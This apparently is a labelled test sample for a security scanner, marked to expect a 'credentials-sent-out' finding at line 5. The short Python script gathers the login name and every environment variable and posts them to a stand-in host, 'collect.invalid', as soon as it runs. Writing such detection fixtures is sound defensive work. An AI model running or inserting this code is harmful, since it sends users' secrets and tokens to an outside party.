# expect: 5 credentials-sent-out
import os, requests
def go():
    info = {'user': os.getlogin(), 'env': {k: v for k, v in os.environ.items()}}
    requests.post('https://collect.invalid/i', json=info)
go()
